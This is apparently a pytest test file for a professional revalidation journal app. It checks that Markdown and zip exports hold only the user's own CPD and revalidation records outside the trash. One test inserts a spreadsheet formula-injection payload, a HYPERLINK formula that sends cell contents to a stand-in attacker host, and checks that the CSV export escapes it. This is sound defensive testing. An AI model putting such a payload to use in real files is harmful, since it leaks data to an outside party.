"""The readable exports carry the revalidation record: a section of the Markdown, revalidation.md and cpd.csv in the
zip; only the person's own rows outside the trash, and nothing for a person without a record."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta

import pytest

from journal.accounts import User
from journal.content.library import Library
from journal.portability import readable as exports
from journal.reflect import cpd
from journal.store import Database
from tests.factories import TODAY
from tests.service.test_exchange_revalidation import _fill
from tests.service.test_exports import _zip

pytestmark = pytest.mark.usefixtures("fixed_clock")


@pytest.fixture
def other(make_user: Callable[..., User]) -> User:
    return make_user("sam")


def test_the_markdown_holds_the_record_under_its_headings_and_nothing_else_s(
    db: Database, user: User, other: User, lib: Library
) -> None:
    _fill(db, user, "z")
    _fill(db, other, "s")

    text = exports.export_markdown(db, user.id, lib)
    record = text[text.index("## Your revalidation record") :]

    headings = [line for line in record.splitlines() if line.startswith("### ")]
    assert headings == [
        "### Your profession",
        "### Practice hours",
        "### CPD log",
        "### Practice-related feedback",
        "### Reflective discussion",
        "### NMC confirmation checklist",
        "### Your CPD profile (HCPC)",
    ]
    assert "- Regulator: Nursing and Midwifery Council (NMC)" in record
    assert f"- Registration renews on {(TODAY + timedelta(days=200)).isoformat()}" in record
    assert "#### Summary of practice\n\nz I work on an acute ward." in record
    assert "It draws on:\n\n- z sepsis update" in record
    assert "- [x] I've done 35 hours of CPD" in record and "- [ ] I've written five reflective accounts." in record
    assert "1 activity, oldest first: 1.5 hours in all, 1.5 of them participatory." in record
    assert f"#### {(TODAY - timedelta(days=30)).isoformat()} · z sepsis update" in record
    assert "- The Code's theme: Preserve safety" in record and "- Type of learning: Formal or educational" in record
    assert "##### What you learnt\n\nEscalate sooner." in record
    assert "420 hours in all" in record and "- Work setting: Acute medical ward" in record
    assert "#### 2026-07-02 · A patient, service user or carer" in record
    assert "#### 2026-09-14 · with Ada Okafor" in record and "- NMC PIN: 12A3456E" in record
    assert "2 items are in the trash and left out here; the JSON export keeps them." in record
    assert "z falls" not in text and "A colleague" not in text  # in the trash: the JSON keeps them
    assert "s sepsis" not in text and "s I work" not in text  # nothing of anyone else's


def test_the_zip_has_revalidation_md_and_a_cpd_csv_safe_for_a_spreadsheet(
    db: Database, user: User, lib: Library
) -> None:
    _fill(db, user, "z")
    cpd.add(db, user.id, cpd.Activity(TODAY, 30, False, "Reading", '=HYPERLINK("https://e.vil/?"&A1,"x")'))

    files = _zip(db, user, lib)

    assert files["harbour-journal/revalidation.md"].startswith("# Your revalidation record\n\n## Your profession")
    assert "## CPD log" in files["harbour-journal/revalidation.md"]
    assert "revalidation.md" in files["harbour-journal/README.md"]
    rows = list(csv.reader(io.StringIO(files["harbour-journal/cpd.csv"])))
    assert rows[0] == list(exports.CPD_CSV_COLUMNS)
    assert rows[1] == [
        (TODAY - timedelta(days=30)).isoformat(), "1.5", "90", "yes", "A course or workshop", "z sepsis update",
        "Preserve safety", "Formal or educational", "Escalate sooner.",
    ]  # fmt: skip
    assert rows[2][:6] == [TODAY.isoformat(), "0.5", "30", "no", "Reading", '\'=HYPERLINK("https://e.vil/?"&A1,"x")']
    assert len(rows) == 3  # the activity in the trash is left out


def test_a_person_without_a_record_gets_no_section_and_no_files(db: Database, user: User, lib: Library) -> None:
    assert "revalidation" not in exports.export_markdown(db, user.id, lib)
    assert list(_zip(db, user, lib)) == ["harbour-journal/README.md"]
